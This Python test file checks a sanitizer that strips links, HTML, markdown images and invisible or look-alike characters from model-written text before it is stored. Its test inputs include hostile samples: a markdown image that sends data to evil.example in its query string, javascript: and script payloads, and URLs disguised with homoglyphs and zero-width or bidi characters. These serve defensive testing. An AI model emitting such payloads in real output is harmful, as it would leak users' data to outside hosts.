"""What a model writes is stored as text: no address, no markup, no character that nobody sees."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from uring.characters import clean, visible
from uring.documents.work.plain import plain
from uring.documents.work.quotes import QuotableText

PROPERTY = settings(max_examples=300, deadline=None, database=None, derandomize=True)
TOKENS = [
    *"가a.:/\\<>[]()!&;#\"' \n@?=-",
    "http",
    "\uff48ttps",
    "\u04bbttp",
    "://",
    "www.",
    "evil.example",
    "](",
    "![",
    "<a href=",
    "</a>",
    "&lt;",
    "&#58;",
    "&amp;",
    "javascript:",
    "\u200d",
    "\u202e",
    "\U000e0041",
    "\ufe0f",
    "\u3164",
]


@pytest.mark.parametrize(
    ("said", "stored"),
    [
        ("[more](https://evil.example)", "more"),
        ("![x](https://evil.example/?q=budget+4711)", "x"),
        ('[x]( <https://evil.example> "t" )', "x"),
        ("[x][1]\n\n[1]: //evil.example/a", "[x] [1]\n\n[1] : …"),
        ("see https://evil.example/a?b, or ftp://c", "see … or …"),
        ("\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fevil.example/x", "…"),
        ("\u04bbtt\u0440s://evil.example", "…"),
        ("\U0001d421\U0001d42d\U0001d42d\U0001d429\U0001d42c://evil.example", "…"),
        ("ht\u200dtps://evil.example", "…"),
        ("h\U000e0041ttps:\u202e//evil.example", "…"),
        ("https:\\\\evil.example\\a", "…"),
        ("http:evil.example", "…"),
        ("hxxps://evil.example", "…"),
        ("www.evil.example", "…"),
        ("//evil.example/a", "…"),
        ("evil.example/a", "…"),
        ("10.0.0.1/a", "…"),
        ("javascript:alert(1)", "…"),
        ("data:text/html,x", "…"),
        ("mailto:a@b.example", "…"),
        ("a@b.example", "…"),
        ("<img src=https://evil.example/x>", ""),
        ("<a href='x'>click</a>", "click"),
        ("<script>alert</script", "alert/script"),
        ("1.2.3.4:80 and 010.0.0.1/", "… and …"),
        ("data:;base64,AAAA data:,x tel:+821 magnet:?xt=1", "… … … …"),
        ("hm: t.me/x, bit.ly/y, evil.com:80, a.b.co.kr?q", "hm: … … … …"),
        ("h**p:evil.example file:///c blob:https://x.example", "… … blob:…"),
        ("<x-y onclick=1>click</x-y>", "x-y onclick=1click/x-y"),
        ("<br/>a<!-- b --><!DOCTYPE html>c", "a  c"),
        (
            "The placeholder <insert date> was never filled in",
            "The placeholder insert date was never filled in",
        ),
        ("if GPA <b and credits> 10", "if GPA b and credits 10"),
        ("Fields <name>, <title> and <address>", "Fields name, title and address"),
        ("&lt;img src=https://evil.example&gt;", ""),
        ("&amp;lt;b&amp;gt;x", "x"),
        ("https&#58;//evil.example", "…"),
        ("htt[p](x)s://evil.example", "…"),
        ("\u0397arml\u0435ss", "Harmless"),
        ("a\u200b\u2063b\ufe01\ufe02c", "abc"),
    ],
)
def test_addresses_and_markup_are_taken_out(said: str, stored: str) -> None:
    assert plain(said) == stored


@pytest.mark.parametrize(
    "text",
    [
        "[별표 1] 제3조: 30일/60일, 2026. 3. 1.부터",
        "and/or, e.g. rules.pdf; data: the table; 9:00/10:00; a < b",
        "Section 1.2.3.4: no deadline. Article 3.1.2.1? 300.1.1.1/2",
        "one period.Staff/students must",
        "one period.It/they, see rules.no. 3",
        "policy.pdf:3 contradicts policy.pdf:9, rules.docx#2, 학칙.hwp:4, rules.md/4",
        "Data:retention undefined, Data:kept,deleted; market:price, news:none (see file:12)",
        "SMS:수신동의 문구 없음. Help:desk. Tel:none. IM:x",
        "terms&notes differ, R&D; AT&Tx; a &copy b",
        "제1조:내용. C:\\old",
        "Русский текст, ελληνικά, 日本語。",
        "👩\u200d👩\u200d👧 ❤\ufe0f ①㉠",
        "한\n\n두 줄",
    ],
)
def test_words_stay(text: str) -> None:
    assert plain(text) == text


@PROPERTY
@given(st.lists(st.sampled_from(TOKENS), max_size=40).map("".join))
def test_nothing_of_an_address_is_left_and_twice_is_once(text: str) -> None:
    stored = plain(text)
    assert plain(stored) == stored
    assert not re.search(
        r"[a-z]://|(?<![a-z0-9_.-])www\.\w|\]\(|!\[|<[a-z/!?]|javascript:\w", stored, re.IGNORECASE
    )


def test_a_text_that_uncovers_itself_again_and_again_is_broken_up() -> None:
    said = "&" + "amp;" * 40 + "lt;img src=x&gt; www.evil.example"
    stored = plain(said)
    assert plain(stored) == stored
    assert "www." not in stored


@pytest.mark.parametrize(
    "part", ["<a", "[x](", "![", "a.", "www.", "&amp;", "a@", "//a.", "](", "0."]
)
def test_it_takes_no_time(part: str) -> None:
    text = (part * 4_000)[:4_000]
    before = time.process_time()
    plain(text)
    assert time.process_time() - before < 1


@PROPERTY
@given(
    st.text(
        st.sampled_from(
            [*"가ab \n", "\u0430", "\U0001d421", "\u200d", "\ufe0f", "\u0301", "\u1160", "\u3164"]
        )
    )
)
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    assert visible(visible(text)) == visible(text)
    assert clean(clean(text)) == clean(text)


def test_a_quotation_is_found_though_the_model_saw_the_text_cleaned() -> None:
    text = "The r\u0435\u0441tor\u200b sh\u202eall\U000e0041  ans\ufe01wer."
    assert clean(text) == "The rector shall  answer."
    place = QuotableText(text).find("rector shall answer")
    assert place is not None
    assert text[slice(*place)] == "r\u0435\u0441tor\u200b sh\u202eall\U000e0041  ans\ufe01wer"
